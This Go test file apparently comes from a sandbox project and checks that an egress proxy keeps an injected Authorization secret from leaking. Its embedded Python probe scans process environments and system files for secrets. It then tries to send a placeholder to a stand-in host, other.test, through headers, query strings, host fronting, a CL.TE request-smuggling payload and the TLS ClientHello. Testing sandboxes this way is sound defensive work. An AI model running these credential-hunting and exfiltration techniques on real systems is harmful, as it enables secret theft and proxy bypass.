//go:build linux

package attack_test

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/hex"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/codecell-dev/codecell"
	"github.com/codecell-dev/codecell/internal/egress"
	"github.com/codecell-dev/codecell/tier/native"
)

// attackNetworkSecrets attacks a network secret: the configuration gives
// one for vault.test (an Authorization header, its value in a file of the
// host; the sandbox holds a placeholder), and the policy also allows other.test; both resolve to
// HTTP and HTTPS servers the test runs on the host's loopback, which
// record every request. The program hunts for the value (its environment,
// every process's environ and cmdline, the files it can read, a private
// key of the proxy's authority) and tries to get it, or its placeholder,
// to other.test: in a header, in the request line, in a second request on
// a connection, in a TLS ClientHello, by naming other.test as the Host of
// a request to vault.test, and by smuggling a request to other.test in the
// body of one to vault.test. Host-side evidence: no request other than to
// vault.test holds the value; the Result lists the refusals. Control:
// the probe finds a marker placed in its environment in the clear, and
// vault.test gets the value.
func attackNetworkSecrets(t *testing.T) {
	t.Parallel()
	value := "attack-secret-value-" + randHex(12)
	control := marker("control")
	testCA, err := egress.NewAuthority()
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var got []string
	record := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var b strings.Builder
		_ = r.Header.Write(&b)
		mu.Lock()
		got = append(got, r.Host+" "+r.RequestURI+"\n"+b.String())
		mu.Unlock()
		fmt.Fprint(w, "ok")
	})
	secure := httptest.NewUnstartedServer(record)
	secure.TLS = &tls.Config{GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) { return testCA.Certificate(h.ServerName) }}
	secure.StartTLS()
	defer secure.Close()
	plain := httptest.NewServer(record)
	defer plain.Close()
	tp, pp := secure.Listener.Addr().(*net.TCPAddr).Port, plain.Listener.Addr().(*net.TCPAddr).Port
	roots := x509.NewCertPool()
	roots.AddCert(testCA.Root())
	tier := &native.Tier{Pool: -1, RootCAs: roots, Resolve: func(context.Context, string) ([]netip.Addr, error) {
		return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
	}}
	t.Cleanup(func() { tier.Close() })
	// The value in a file of the host, which the sandbox does not show.
	valueFile := filepath.Join(t.TempDir(), "vault-key")
	if err := os.WriteFile(valueFile, []byte(value+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	var allow []string
	for _, port := range []int{tp, pp} {
		allow = append(allow, fmt.Sprintf("vault.test:%d", port), fmt.Sprintf("other.test:%d", port))
	}
	eng := &codecell.Engine{Tiers: []codecell.Tier{tier}, Policy: codecell.Policy{Network: &codecell.NetworkPolicy{
		Allow: append(allow, "127.0.0.0/8"),
		Secrets: []codecell.Secret{{Name: "vault", File: valueFile, Header: "Authorization: Bearer {value}",
			Hosts: []string{fmt.Sprintf("vault.test:%d", tp), fmt.Sprintf("vault.test:%d", pp)}}},
	}}}
	src := `
import ssl, base64
tp, pp = int(os.environ['TP']), int(os.environ['PP'])
ph = os.environ['CODECELL_SECRET_VAULT']
needles = [bytes.fromhex(os.environ['NEEDLE']), os.environ['CONTROL'].encode(), b'PRIVATE ' + b'KEY']
found = []
def look(p, data):
    for n in needles:
        if n in data:
            found.append((p, n[:8].decode()))
look('environ', '\n'.join(k + '=' + v for k, v in os.environ.items()).encode())
for pid in os.listdir('/proc'):
    if pid.isdigit() or pid == 'self':
        for what in ('environ', 'cmdline'):
            try:
                look('/proc/%s/%s' % (pid, what), read_all('/proc/%s/%s' % (pid, what)))
            except OSError:
                pass
for top in ['/etc', '/tmp', '/workspace', '/run', '/dev/shm', '/var', '/root', '/home']:
    for d, dirs, files in os.walk(top):
        for name in files:
            try:
                look(os.path.join(d, name), read_all(os.path.join(d, name), 4 << 20))
            except OSError:
                pass
R['found'] = repr(sorted(set(found)))

def raw(name, port, data, wrap=None):
    s = socket.create_connection((name, port), timeout=10)
    if wrap:
        s = wrap(s)
    s.sendall(data)
    out = b''
    try:
        while True:
            b = s.recv(65536)
            if not b:
                break
            out += b
    except OSError as e:
        out += b'|' + type(e).__name__.encode()
    s.close()
    return out.split(b'\r\n')[0].decode()
def req(host, target='/', extra=b'', body=b''):
    return b'GET ' + target.encode() + b' HTTP/1.1\r\nHost: ' + host.encode() + b'\r\n' + extra + b'\r\n' + body
close = b'Connection: close\r\n'
ctx = ssl.create_default_context()
def tls_to(name):
    return lambda s: ctx.wrap_socket(s, server_hostname=name)
leaks = {
    'header': lambda: raw('other.test', pp, req('other.test', extra=b'X-Key: ' + ph.encode() + b'\r\n' + close)),
    'request line': lambda: raw('other.test', pp, req('other.test', '/?k=' + ph, close)),
    'second request': lambda: raw('other.test', pp, req('other.test') + req('other.test', extra=b'Cookie: k=' + ph.encode() + b'\r\n' + close)),
    'lowercase header': lambda: raw('other.test', pp, req('other.test', extra=b'authorization: Bearer ' + ph.encode() + b'\r\n' + close)),
    'host fronting': lambda: raw('vault.test', tp, req('vault.test') + req('other.test', extra=close), tls_to('vault.test')),
    'smuggled': lambda: raw('vault.test', pp, b'POST / HTTP/1.1\r\nHost: vault.test\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + req('other.test', extra=b'X: ' + ph.encode() + b'\r\n' + close)),
    'absolute form': lambda: raw('vault.test', pp, req('vault.test', 'http://other.test/', close)),
}
for k, f in leaks.items():
    R['leak/' + k] = attempt(f)
def hello():
    c = ssl.create_default_context()
    c.set_alpn_protocols([ph])
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    return raw('other.test', tp, req('other.test', extra=close), lambda s: c.wrap_socket(s, server_hostname='other.test'))
R['leak/client hello'] = attempt(hello)
R['control/vault'] = attempt(lambda: raw('vault.test', tp, req('vault.test', extra=close), tls_to('vault.test')))
`
	env := map[string]string{"TP": fmt.Sprint(tp), "PP": fmt.Sprint(pp), "NEEDLE": hex.EncodeToString([]byte(value)), "CONTROL": control}
	r, res := probesWith(t, eng, codecell.Exec{Env: env}, src)
	if !strings.Contains(r["found"], "('environ', 'codecell')") || !strings.Contains(r["found"], "('/proc/self/environ', 'codecell')") {
		t.Errorf("control: the probe did not find the marker in its environment: %s", r["found"])
	}
	if strings.Contains(r["found"], value[:8]) || strings.Contains(r["found"], "PRIVATE") {
		t.Errorf("the value or a private key is in the sandbox: %s", r["found"])
	}
	if r["control/vault"] != "ok:HTTP/1.1 200 OK" {
		t.Errorf("control: vault.test not reached: %q", r["control/vault"])
	}
	mu.Lock()
	defer mu.Unlock()
	reachedVault := false
	for _, g := range got {
		toVault := strings.HasPrefix(g, "vault.test ") || strings.HasPrefix(g, "vault.test:")
		if strings.Contains(g, value) {
			if !toVault {
				t.Errorf("the value reached another host: %q", g)
			}
			reachedVault = true
		}
		if !toVault && strings.Contains(g, "codecell-secret:") {
			t.Errorf("a placeholder reached another host: %q", g)
		}
	}
	if !reachedVault {
		t.Errorf("control: the value never reached vault.test: %q", got)
	}
	// Each of the eight leaks is a connection refused, for its reason.
	refused := 0
	reasons := ""
	for _, c := range res.Network {
		t.Logf("%s:%d allowed=%v %s", c.Host, c.Port, c.Allowed, c.Reason)
		if !c.Allowed {
			refused++
			reasons += c.Reason + "\n"
		}
	}
	if refused != 8 {
		t.Errorf("%d connections refused, want one for each of the 8 leaks", refused)
	}
	for _, want := range []string{"secret vault was sent to other.test", "(in the TLS ClientHello)", "(in the header Cookie)", "a request's Host is not the name"} {
		if !strings.Contains(reasons, want) {
			t.Errorf("no connection refused for %q: %s", want, reasons)
		}
	}
}
